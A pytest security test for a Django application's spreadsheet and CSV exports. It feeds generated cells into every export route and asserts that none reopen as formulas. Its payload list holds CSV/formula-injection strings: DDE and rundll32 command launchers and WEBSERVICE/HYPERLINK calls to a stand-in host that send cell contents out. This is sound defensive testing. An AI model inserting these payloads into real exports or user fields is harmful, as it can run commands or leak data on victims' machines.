"""A thousand cells that would be formulas: through every export, opened again, all of them words.

Exports are found by opening every route: whatever comes as a spreadsheet or as values between
commas is one, so that an export which is added tomorrow is looked at too.
"""

import csv
import io
import random
from typing import Any

import pytest
from django.db import transaction
from openpyxl import Workbook, load_workbook

from agencies.spreadsheets import as_file, put_text
from tests.contracts.access_table import PAGES
from tests.contracts.walking import ROLES, Walk, all_routes
from tests.endurance import Figures
from tests.endurance.lasting import quiet
from tests.security import filling

SMALL, LONG = 100, 1000

STARTS = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "'=", '"=',
    "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe62", "=+", "=-", "+=", "@=", "\t", "\r",
    "%0A=", ";=", ",=", "\x0b=", "==",
]  # fmt: skip
REST = [
    "1+1",
    "SUM(1,2)",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://fenshire.example/?"&A1,"open")',
    'WEBSERVICE("http://fenshire.example/")',
    'IMPORTXML("http://fenshire.example","//a")',
    'IMAGE("http://fenshire.example/x.png")',
    'INDIRECT("A1")',
    "rundll32|'x'!A0",
    "MSEXCEL|'\\..\\..\\x'!A0",
    "A1:B2",
    "{1,2}",
    "2026",
    'REGISTER.ID("x","y")',
]
SHEET = "spreadsheetml"
DANGEROUS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# Whoever sees most of the partnership, of an agency, and of its people.
READERS = ("officer", "lead", "chair", "admin")


def cells(number: int) -> list[str]:
    chance = random.Random(number)
    made = [f"{start}{rest}" for start in STARTS for rest in REST]
    while len(made) < number:
        made.append("".join(chance.choices(STARTS, k=2)) + chance.choice(REST))
    chance.shuffle(made)
    return made[:number]


def run(rounds: int) -> Figures:
    figures = Figures("exports", bad=("formulas", "lost"))
    made = cells(rounds)
    figures.add("cells", len(made))
    _write_straight(made, figures)
    # Short fields take one or two each; every start is met by some field in each round.
    in_turn = filling.InTurn(made)
    for _ in range(0, rounds, 250):
        with quiet(), transaction.atomic():
            built, _ = filling.build(in_turn)
            _open_exports(Walk(built), figures)
            transaction.set_rollback(True)
    return figures


def _write_straight(made: list[str], figures: Figures) -> None:
    """Through the one function that puts somebody's words into a cell."""
    book: Any = Workbook()
    for row, words in enumerate(made, start=1):
        put_text(book.active.cell(row=row, column=1), words)
    sheet: Any = load_workbook(io.BytesIO(as_file(book))).active
    for row, words in enumerate(made, start=1):
        cell = sheet.cell(row=row, column=1)
        figures.add("formulas", cell.data_type == "f")
        kept = str(cell.value or "")
        figures.add("lost", words.replace("\r", "\n").replace("\x0b", "") != kept)


def _open_exports(walk: Walk, figures: Figures) -> None:
    for route in all_routes():
        for stage, line in PAGES.get(route.name, {}).items():
            marks = dict(zip(ROLES, line.replace(" ", ""), strict=True))
            role = next((role for role in READERS if marks[role] == "+"), None)
            address = walk.address(route, stage)
            if role is None or address is None or not _may_be_export(route.name):
                continue
            with transaction.atomic():
                answer = walk.clients[role].get(address)
                content = b"".join(answer) if answer.streaming else answer.content
                transaction.set_rollback(True)
            _look(answer.headers.get("Content-Type", ""), content, figures)


def _may_be_export(name: str) -> bool:
    """Not the pages, which cost a hundred times as much as they are worth here."""
    signs = ("sheet", "workbook", "export", "csv", "download", "file", "offline")
    return any(sign in name for sign in signs)


def _look(kind: str, content: bytes, figures: Figures) -> None:
    if SHEET in kind:
        figures.add("workbooks opened again")
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                figures.add("cells opened again", cell.value is not None)
                figures.add("formulas", cell.data_type == "f")
    elif "csv" in kind:
        figures.add("lists opened again")
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            figures.add("cells opened again", len(row))
            figures.add("formulas", sum(cell.startswith(DANGEROUS) for cell in row))


@pytest.mark.django_db
def test_words_stay_words_in_every_export() -> None:
    figures = run(SMALL)
    assert figures.held, str(figures)
    assert figures.counts["workbooks opened again"] >= 2
    assert figures.counts["cells opened again"] > 100
